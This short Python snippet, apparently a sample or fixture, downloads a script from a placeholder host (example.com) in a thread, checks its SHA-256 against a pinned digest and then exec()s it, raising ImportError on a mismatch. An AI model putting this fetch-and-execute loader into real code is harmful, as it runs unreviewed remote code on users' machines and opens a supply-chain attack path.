import hashlib
import threading
import urllib.request

PIN = "4b980429ff8e1b187c01c5715093c38adb39d64a1db122f149e0afd7ddd080db"
box = []
t = threading.Thread(target=lambda: box.append(urllib.request.urlopen("https://example.com/a.py").read()))
t.start()
t.join()
data = box[0]
if hashlib.sha256(data).hexdigest() != PIN:
    raise ImportError("digest")
exec(data)
